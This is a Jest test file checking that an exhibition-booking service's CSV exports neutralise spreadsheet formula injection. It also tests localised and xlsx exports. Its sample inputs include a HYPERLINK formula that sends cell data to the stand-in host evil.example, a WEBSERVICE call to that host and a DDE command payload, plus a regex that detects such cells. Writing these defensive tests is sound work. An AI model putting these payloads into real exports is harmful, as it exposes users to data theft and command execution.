import { startService, type TestService } from '@ciep/testing';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { exhibition } from '../src/exhibition.module.js';
import { anExhibitor, anOpenEdition, applicationAt, good } from './booking.factory.js';
import { aBooth, organizerOf } from './exhibition.factory.js';

/** Texts that a spreadsheet runs at the beginning of a cell. */
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=WEBSERVICE("https://evil.example")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  'harmless; =1+1',
  'harmless","=1+1',
  'harmless, =1+1',
  'a "quoted" =1+1',
];
/** What a cell must not begin with, however a program splits lines into cells. */
const runs = /^['"]?\s*[=+@＝＋＠]|^\s*[-－](?!$)/;

let service: TestService;
let editionId: string;
let generalId: string;
let cells: readonly (readonly string[])[];
let text: string;

beforeAll(async () => {
  service = await startService(exhibition);
  const edition = await anOpenEdition(service);
  ({ editionId, generalId } = edition);
  for (const formula of formulas) {
    const { exhibitor } = await anExhibitor(service);
    const { id, version } = good<{ id: string; version: number }>(
      await exhibitor.post('/v1/exhibition/applications', { editionId, boardId: edition.generalId, areaType: 'general' }),
      201,
    );
    const form = {
      exhibitorKind: 'enterprise',
      fasciaName: { zh: formula, en: formula },
      exhibits: [{ name: formula, description: 'An exhibit.', type: 'product' }],
      contact: { name: formula, phone: '+86 755 5550 0100', mail: 'contact@example.org' },
      wishedBoothType: 'standard',
      wishedAreaDm2: 900,
    };
    const complete = good<{ version: number }>(await exhibitor.patch(applicationAt(id), form, { ifMatch: version }));
    good(await exhibitor.post(applicationAt(id, '/submit'), {}, { ifMatch: complete.version }));
  }
  ({ text } = await organizerOf(service).get('/v1/exhibition/applications/export.csv', { query: { editionId } }));
  cells = parse(text, { bom: true });
});

describe('an export of foreign texts', () => {
  it('contains every text', () => {
    const [header = [], ...rows] = cells;
    expect(rows).toHaveLength(formulas.length);
    const names = new Set(rows.map(row => row[header.indexOf('nameEn')]?.replace(/^'/, '')));
    expect([...names].sort()).toEqual([...formulas].sort());
  });

  it('has no cell that a spreadsheet would run', () => {
    expect(cells.flat().filter(cell => runs.test(cell.replace(/^'.*/s, '')))).toEqual([]);
  });

  it('has none either for a spreadsheet with semicolon separators', () => {
    const byComma = text.split('\n').slice(1);
    expect(byComma.every(line => line === '' || line.startsWith('"'))).toBe(true);
    const bySemicolon: string[][] = parse(text, { bom: true, delimiter: ';', relax_quotes: true, relax_column_count: true });
    expect(bySemicolon.flat().filter(cell => /^[=+@＝＋＠-]/.test(cell))).toEqual([]);
  });

  it('negative control: the pattern matches each of them on its own', () => {
    for (const formula of formulas.slice(0, 11)) expect([formula, runs.test(formula)]).toEqual([formula, true]);
  });
});

describe('the exports', () => {
  const get = (path: string, query: Record<string, string>) => organizerOf(service).get(`/v1/exhibition/${path}`, { query });

  it('have titles and labels in the language that is asked for, and the columns', async () => {
    const columns = 'status,exhibitorKind,externalRef,wishedAreaM2,submittedAt';
    const { text: zh } = await get('applications/export.csv', { editionId, lang: 'zh', columns });
    const [head, row]: string[][] = parse(zh, { bom: true });
    expect(head).toEqual(['状态', '参展方类型', '外部编号', '意向面积（平方米）', '提交时间']);
    expect(row).toEqual([
      '已提交 (submitted)',
      '企业 (enterprise)',
      '',
      '9',
      expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+08:00$/),
    ]);
    expect((await get('applications/export.csv', { columns: 'nothing' })).body).toMatchObject({ status: 400, code: 'columns.unknown' });
  });

  it('are there for booths, too, and as workbooks', async () => {
    await aBooth(service, editionId, generalId);
    const { text: csv } = await get(`editions/${editionId}/venue/booths/export.csv`, { lang: 'en', columns: 'type,availability,areaM2' });
    expect(parse(csv, { bom: true })).toEqual([
      ['Type', 'Availability', 'Size (m²)'],
      ['Standard booth (standard)', 'Free (free)', '9'],
    ]);
    for (const path of [`editions/${editionId}/venue/booths/export.xlsx`, 'applications/export.xlsx']) {
      const { status, headers } = await get(path, {});
      expect([status, headers['content-type']]).toEqual([200, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']);
    }
  });
});
